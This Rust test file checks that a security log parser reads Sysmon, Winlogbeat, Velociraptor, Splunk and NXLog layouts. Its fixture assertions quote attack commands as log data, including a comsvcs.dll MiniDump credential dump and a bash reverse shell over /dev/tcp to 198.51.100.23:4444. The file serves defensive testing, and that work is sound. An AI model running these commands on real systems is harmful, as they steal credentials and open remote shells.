//! Collector layouts not in the shared corpus, on fixtures built from the
//! documented output of each tool (the source of each layout is cited in
//! `docs/layouts.md` and beside each fixture below): field names, envelope
//! and UTC times. The layouts the corpus has (NXLog/Logstash, OTRF's
//! TimeCreated exports, Winlogbeat 6) are tested on the real recordings in
//! `security_datasets.rs`.

use std::path::PathBuf;

use vigie_event::{Event, Value};
use vigie_source::{read_all, read_all_with, read_bytes, ReadOptions};

fn fixture(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures")
        .join(name)
}

fn s(v: &str) -> Value {
    Value::Str(v.into())
}

fn iso(e: &Event) -> String {
    e.timestamp
        .map(|t| t.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true))
        .unwrap_or_default()
}

/// Winlogbeat 8 (ECS): Elastic's own golden outputs
/// (elastic/beats `x-pack/winlogbeat/module/sysmon/test/testdata/ingest/
/// sysmon-12-processcreate.golden.json`, `…/security/…/
/// security-windows2012_4769.golden.json`) give the shapes: the Sysmon
/// module moves `Image`, `CommandLine`, `ParentImage`, `Hashes`, `User`
/// out of `winlog.event_data` into `process.*`, `user.*`.
#[test]
fn winlogbeat8_fields_under_sigma_names_even_when_renamed_into_ecs() {
    let (events, report) = read_all(&fixture("winlogbeat8.ndjson"));
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(events.len(), 3);
    let p = &events[0];
    assert_eq!(p.get("EventID"), Some(&Value::Int(1)));
    assert_eq!(p.event_id, Some(1));
    assert_eq!(p.get("Provider_Name"), Some(&s("Microsoft-Windows-Sysmon")));
    // The forwarded event's computer, not the Beat's host.
    assert_eq!(p.get("Computer"), Some(&s("SRV-RDS01.ccpab.local")));
    assert_eq!(p.computer.as_deref(), Some("SRV-RDS01.ccpab.local"));
    assert_eq!(p.get("EventRecordID"), Some(&Value::Int(88213)));
    assert_eq!(p.record_id, Some(88213));
    assert_eq!(
        p.get("Image"),
        Some(&s("C:\\Windows\\System32\\rundll32.exe"))
    );
    assert_eq!(
        p.get_str("CommandLine"),
        Some("\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump 672 C:\\Users\\Public\\l.dmp full")
    );
    assert_eq!(
        p.get_str("ParentImage"),
        Some("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert_eq!(p.get_str("OriginalFileName"), Some("RUNDLL32.EXE"));
    assert!(p.get_str("Hashes").unwrap().starts_with("SHA256=a2d6ea5f"));
    assert_eq!(p.get_str("User"), Some("CCPAB\\adm.tech01"));
    assert_eq!(p.get_str("IntegrityLevel"), Some("High"));
    // ECS names stay too.
    assert_eq!(
        p.get_str("process.executable"),
        Some("C:\\Windows\\System32\\rundll32.exe")
    );
    assert_eq!(iso(p), "2026-01-09T01:12:44.517Z");

    let k = &events[1];
    assert_eq!(k.event_id, Some(4769));
    assert_eq!(k.channel.as_deref(), Some("Security"));
    assert_eq!(k.computer.as_deref(), Some("DC01.ccpab.local"));
    assert_eq!(
        k.get("Provider_Name"),
        Some(&s("Microsoft-Windows-Security-Auditing"))
    );
    assert_eq!(k.get_str("TicketEncryptionType"), Some("0x17"));
    assert_eq!(k.get("Execution_ProcessID"), Some(&Value::Int(652)));
    assert_eq!(iso(k), "2026-01-09T01:20:07.441938Z");
    // An Elasticsearch hit (Kibana export) is read as its _source.
    let hit = &events[2];
    assert_eq!(hit.fields, k.fields);
    assert_eq!(hit.timestamp, k.timestamp);
    assert!(report.notes.is_empty(), "{:?}", report.notes);
}

/// Velociraptor: `Windows.EventLogs.Evtx` rows keep `System` as
/// Velocidex/evtx renders it (`fixtures/Event4624_windows.golden`:
/// `Provider.Name`, `EventID.Value`, `TimeCreated.SystemTime` as a
/// fractional epoch); `Windows.EventLogs.EvtxHunter` rows have the
/// columns of `artifacts/definitions/Windows/EventLogs/EvtxHunter.yaml`.
#[test]
fn velociraptor_evtx_and_evtxhunter_rows() {
    let (events, report) = read_all(&fixture("velociraptor_evtx.json"));
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(events.len(), 3);
    let e = &events[0];
    assert_eq!(e.event_id, Some(4624));
    assert_eq!(e.get("EventID"), Some(&Value::Int(4624)));
    assert_eq!(
        e.get("Provider_Name"),
        Some(&s("Microsoft-Windows-Security-Auditing"))
    );
    assert_eq!(e.get("Computer"), Some(&s("DC01.ccpab.local")));
    assert_eq!(e.record_id, Some(1_840_101));
    assert_eq!(e.get("Execution_ProcessID"), Some(&Value::Int(652)));
    assert_eq!(e.get("LogonType"), Some(&Value::Int(3)));
    assert_eq!(e.get_str("TargetUserName"), Some("presta.maint"));
    assert_eq!(e.get_str("IpAddress"), Some("10.20.1.57"));
    assert_eq!(iso(e), "2026-01-09T01:13:03.251826Z");

    let h = &events[1];
    assert_eq!(h.event_id, Some(1));
    assert_eq!(
        h.channel.as_deref(),
        Some("Microsoft-Windows-Sysmon/Operational")
    );
    assert_eq!(h.get("Provider_Name"), Some(&s("Microsoft-Windows-Sysmon")));
    assert_eq!(h.computer.as_deref(), Some("SRV-RDS01.ccpab.local"));
    assert_eq!(
        h.get_str("Image"),
        Some("C:\\Windows\\System32\\rundll32.exe")
    );
    assert_eq!(h.get("Security_UserID"), Some(&s("S-1-5-18")));
    assert_eq!(iso(h), "2026-01-09T01:12:44Z");
    let svc = &events[2];
    assert_eq!(svc.provider.as_deref(), Some("Service Control Manager"));
    assert_eq!(svc.get_str("ServiceName"), Some("PSEXESVC"));
    assert_eq!(svc.record_id, Some(22871));
    assert!(report.notes.is_empty(), "{:?}", report.notes);
}

/// Splunk's JSON export (`{"preview":false,"result":{…}}` per line): the
/// XML in `_raw` (sourcetype `XmlWinEventLog`) is the event; a classic
/// `WinEventLog` result keeps Splunk's extracted fields.
#[test]
fn splunk_export_reads_the_event_in_raw() {
    let (events, report) = read_all(&fixture("splunk_export.json"));
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(events.len(), 2);
    let x = &events[0];
    assert_eq!(x.event_id, Some(4720));
    assert_eq!(x.get("EventID"), Some(&Value::Int(4720)));
    assert_eq!(
        x.get("Provider_Name"),
        Some(&s("Microsoft-Windows-Security-Auditing"))
    );
    assert_eq!(x.get("Computer"), Some(&s("DC01.ccpab.local")));
    assert_eq!(x.get_str("TargetUserName"), Some("svc_sauvegarde"));
    assert_eq!(x.get_str("SubjectUserName"), Some("presta.maint"));
    assert_eq!(x.get_str("sourcetype"), Some("XmlWinEventLog"));
    assert_eq!(x.get_str("host"), Some("DC01"));
    // SystemTime, not _time (rounded to the millisecond by Splunk).
    assert_eq!(iso(x), "2026-01-09T01:40:12.118202700Z");
    let c = &events[1];
    assert_eq!(c.event_id, Some(7045));
    assert_eq!(c.channel.as_deref(), Some("System"));
    assert_eq!(c.provider.as_deref(), Some("Service Control Manager"));
    assert_eq!(c.get("Provider_Name"), Some(&s("Service Control Manager")));
    assert_eq!(c.computer.as_deref(), Some("SRV-FIC01.ccpab.local"));
    assert_eq!(c.record_id, Some(22871));
    assert_eq!(iso(c), "2026-01-09T01:41:30Z");
}

fn year(y: i32) -> ReadOptions {
    ReadOptions {
        syslog_year: Some(y),
        ..Default::default()
    }
}

/// Sysmon for Linux in `/var/log/syslog` (RFC 3164 headers in the host's
/// local time, here UTC+3): events under Sigma names with their own UTC
/// time, and the header offset, learnt from them, corrects the host's
/// other lines.
#[test]
fn sysmon_for_linux_in_syslog() {
    let (events, report) = read_all_with(&fixture("sysmon_linux.log"), &year(2026));
    assert_eq!(events.len(), 9, "{events:#?}");
    assert_eq!(report.records_skipped, 0);
    // The line cut by the relay is reported, and kept as text.
    assert_eq!(report.errors.len(), 1, "{:?}", report.errors);
    assert_eq!(report.errors[0].place, vigie_source::Place::Line(9));
    assert!(report.errors[0].message.contains("Sysmon event XML"));
    assert!(events[8].get_str("message").unwrap().starts_with("<Event>"));

    let sysmon: Vec<&Event> = events
        .iter()
        .filter(|e| e.channel.as_deref() == Some("Linux-Sysmon/Operational"))
        .collect();
    assert_eq!(sysmon.len(), 6);
    for e in &sysmon {
        assert_eq!(e.provider.as_deref(), Some("Linux-Sysmon"));
        assert_eq!(e.get("Provider_Name"), Some(&s("Linux-Sysmon")));
        assert_eq!(e.computer.as_deref(), Some("web-ext01"));
        assert!(e.get("message").is_none(), "XML not kept twice");
        assert_eq!(e.get_str("appname"), Some("sysmon"));
    }
    let base64 = sysmon[1];
    assert_eq!(base64.event_id, Some(1));
    assert_eq!(base64.get_str("Image"), Some("/usr/bin/base64"));
    assert_eq!(base64.get_str("CommandLine"), Some("base64 -d /tmp/.x.b64"));
    assert_eq!(base64.get_str("ParentImage"), Some("/usr/bin/bash"));
    assert_eq!(iso(base64), "2026-01-22T13:14:19.552871Z");
    let file = sysmon[2];
    assert_eq!(file.event_id, Some(11));
    assert_eq!(
        file.get_str("TargetFilename"),
        Some("/etc/sudoers.d/90-deploy")
    );
    // Entities decoded in the command line.
    assert_eq!(
        sysmon[3].get_str("CommandLine"),
        Some("bash -c \"bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\"")
    );
    let net = sysmon[4];
    assert_eq!(net.event_id, Some(3));
    assert_eq!(net.get_str("DestinationIp"), Some("198.51.100.23"));
    assert_eq!(net.get_str("DestinationPort"), Some("4444"));

    // The sshd and sudo lines: header time 16:14:02 local = 13:14:02 UTC.
    assert_eq!(events[0].provider.as_deref(), Some("sshd"));
    assert_eq!(iso(&events[0]), "2026-01-22T13:14:02Z");
    assert_eq!(iso(&events[7]), "2026-01-22T13:15:09Z");
    assert!(
        report.notes.iter().any(|n| n
            .contains("times of web-ext01 in this file were 3 h ahead of UTC")
            && n.contains("Sysmon SystemTime")),
        "{:?}",
        report.notes
    );
}

/// rsyslog's default format on current distributions states the offset:
/// nothing to correct, the same events.
#[test]
fn sysmon_for_linux_with_rfc3339_headers_and_bare_xml() {
    let (iso_events, report) = read_all(&fixture("sysmon_linux_rfc3339.log"));
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    let (bsd, _) = read_all_with(&fixture("sysmon_linux.log"), &year(2026));
    assert_eq!(iso_events.len(), 8);
    for (a, b) in iso_events.iter().zip(&bsd) {
        assert_eq!(a.timestamp, b.timestamp, "{a:?}");
        assert_eq!(a.event_id, b.event_id);
        assert_eq!(a.get("CommandLine"), b.get("CommandLine"));
    }
    assert!(
        !report.notes.iter().any(|n| n.contains("corrected")),
        "{:?}",
        report.notes
    );

    // The XML alone (as sysmonLogView reads it, or extracted from syslog).
    let text = std::fs::read_to_string(fixture("sysmon_linux.log")).unwrap();
    let xml: String = text
        .lines()
        .filter_map(|l| l.split_once("sysmon: ").map(|(_, x)| x))
        .filter(|x| x.ends_with("</Event>"))
        .map(|x| format!("{x}\n"))
        .collect();
    let (bare, report) = read_bytes("sysmon.xml", xml.as_bytes(), &ReadOptions::default());
    assert!(report.errors.is_empty(), "{:?}", report.errors);
    assert_eq!(bare.len(), 6);
    let from_syslog: Vec<&Event> = bsd.iter().filter(|e| e.event_id.is_some()).collect();
    for (a, b) in bare.iter().zip(from_syslog) {
        assert_eq!(a.timestamp, b.timestamp);
        assert_eq!(a.channel.as_deref(), Some("Linux-Sysmon/Operational"));
        assert_eq!(a.get("Image"), b.get("Image"));
    }
}

/// NXLog JSON without any reference: `EventTime` is read in the zone the
/// user gives, and the note says which.
#[test]
fn offset_less_times_are_read_in_the_given_zone_and_the_note_says_so() {
    let line = r#"{"EventTime":"2026-07-14 10:00:00","Hostname":"PC-ACCUEIL03","SourceName":"Microsoft-Windows-Security-Auditing","Channel":"Security","EventID":4625,"TargetUserName":"admin"}"#;
    let (events, report) = read_bytes("nx.json", line.as_bytes(), &ReadOptions::default());
    assert_eq!(iso(&events[0]), "2026-07-14T10:00:00Z");
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("(EventTime) read as UTC (no zone given)")),
        "{:?}",
        report.notes
    );
    let paris = ReadOptions {
        input_zone: Some("Europe/Paris".parse().unwrap()),
        ..Default::default()
    };
    let (events, report) = read_bytes("nx.json", line.as_bytes(), &paris);
    assert_eq!(iso(&events[0]), "2026-07-14T08:00:00Z");
    assert!(
        report
            .notes
            .iter()
            .any(|n| n.contains("read as Europe/Paris (as asked)")),
        "{:?}",
        report.notes
    );
    // The envelope is visible to rules.
    assert_eq!(
        events[0].get("Provider_Name"),
        Some(&s("Microsoft-Windows-Security-Auditing"))
    );
    assert_eq!(events[0].get("Computer"), Some(&s("PC-ACCUEIL03")));
}
